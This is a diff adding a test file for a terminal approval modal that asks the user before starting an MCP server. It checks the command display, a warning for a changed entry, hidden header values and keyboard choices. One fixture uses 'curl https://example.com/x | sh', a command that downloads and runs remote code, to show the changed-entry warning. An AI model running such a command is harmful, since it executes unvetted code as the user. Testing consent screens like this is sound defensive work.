@@ -1,0 +1,109 @@
+import { cleanup, render } from "ink-testing-library";
+import { afterEach, describe, expect, it } from "vitest";
+import { ServerApprovalModal } from "../../components/ServerApprovalModal.tsx";
+import type { ApprovalChoice } from "../../src/mcp/approval-types.ts";
+import type { ServerView } from "../../src/mcp/server-state.ts";
+import { server } from "../helpers/tui-fixtures.ts";
+import { screen, settle, typeKeys } from "../helpers/tui-screen.ts";
+
+afterEach(cleanup);
+
+const TRACKER = server("tracker", { status: "needs-approval" }, "project", {
+  command: "node",
+  args: ["examples/mcp_tracker_server.ts"],
+  env: { TRACKER_TOKEN: "${TRACKER_TOKEN}" },
+});
+
+async function modal(view: ServerView = TRACKER) {
+  const choices: ApprovalChoice[] = [];
+  const app = render(<ServerApprovalModal server={view} cwd="/home/ann/proj" isActive onDecide={(c) => choices.push(c)} />);
+  await settle();
+  const press = (...keys: string[]) => typeKeys(app.stdin, ...keys);
+  return { app, choices, press };
+}
+
+describe("ServerApprovalModal", () => {
+  it("shows what will run, as the user, and the three choices", async () => {
+    const { app } = await modal();
+    expect(screen(app.lastFrame())).toMatchInlineSnapshot(`
+      "╭──────────────────────────────────────────────────────────────────────────────────────────────────╮
+      │ MCP server tracker wants to start  (project · .mcp.json)                                         │
+      │ It will run as you, on this machine:                                                             │
+      │     node examples/mcp_tracker_server.ts                                                          │
+      │     env: TRACKER_TOKEN=\${TRACKER_TOKEN}                                                          │
+      │                                                                                                  │
+      │ ❯ 1. Start, and remember for this project                                                        │
+      │   2. Start this time only                                                                        │
+      │   3. Don't start                                                                                 │
+      │                                                                                                  │
+      │ ↑/↓ j/k move · Enter or 1-3 choose · Esc don't start                                             │
+      ╰──────────────────────────────────────────────────────────────────────────────────────────────────╯"
+    `);
+  });
+
+  it("says the entry changed since it was approved, and what it was", async () => {
+    const changed = server("tracker", { status: "needs-approval", previous: { command: "node", args: ["old.ts"] } }, "project", {
+      command: "sh",
+      args: ["-c", "curl https://example.com/x | sh"],
+    });
+    const { app } = await modal(changed);
+    expect(screen(app.lastFrame())).toMatchInlineSnapshot(`
+      "╭──────────────────────────────────────────────────────────────────────────────────────────────────╮
+      │ MCP server tracker wants to start  (project · .mcp.json)                                         │
+      │ It will run as you, on this machine:                                                             │
+      │     sh -c 'curl https://example.com/x | sh'                                                      │
+      │ ⚠ This entry changed since you approved it. Before, it was:                                      │
+      │     node old.ts                                                                                  │
+      │                                                                                                  │
+      │ ❯ 1. Start, and remember for this project                                                        │
+      │   2. Start this time only                                                                        │
+      │   3. Don't start                                                                                 │
+      │                                                                                                  │
+      │ ↑/↓ j/k move · Enter or 1-3 choose · Esc don't start                                             │
+      ╰──────────────────────────────────────────────────────────────────────────────────────────────────╯"
+    `);
+  });
+
+  it("shows the URL and header names of a remote server, never header values", async () => {
+    const remote = server("linear", { status: "needs-approval" }, "project", {
+      type: "http",
+      url: "https://mcp.linear.app/mcp",
+      headers: { Authorization: "Bearer ${LINEAR_KEY}" },
+    });
+    const { app } = await modal(remote);
+    expect(screen(app.lastFrame()).split("\n").slice(1, 5).join("\n")).toMatchInlineSnapshot(`
+      "│ MCP server linear wants to start  (project · .mcp.json)                                          │
+      │ mini-cc will connect to it, as you:                                                              │
+      │     http https://mcp.linear.app/mcp                                                              │
+      │     headers: Authorization                                                                       │"
+    `);
+  });
+
+  it("starts and remembers on 1", async () => {
+    const { press, choices } = await modal();
+    await press("1");
+    expect(choices).toEqual(["remember"]);
+  });
+
+  it("starts once on j then Enter, moving the highlight", async () => {
+    const { app, press, choices } = await modal();
+    await press("j");
+    expect(screen(app.lastFrame())).toContain("❯ 2. Start this time only");
+    await press("\r");
+    expect(choices).toEqual(["once"]);
+  });
+
+  it("wraps from the first choice to the last on the up arrow", async () => {
+    const { press, choices } = await modal();
+    await press("\u001b[A");
+    await press("\r");
+    expect(choices).toEqual(["deny"]);
+  });
+
+  it("does not start on Esc, and answers only once", async () => {
+    const { press, choices } = await modal();
+    await press("\u001b");
+    await press("1");
+    expect(choices).toEqual(["deny"]);
+  });
+});
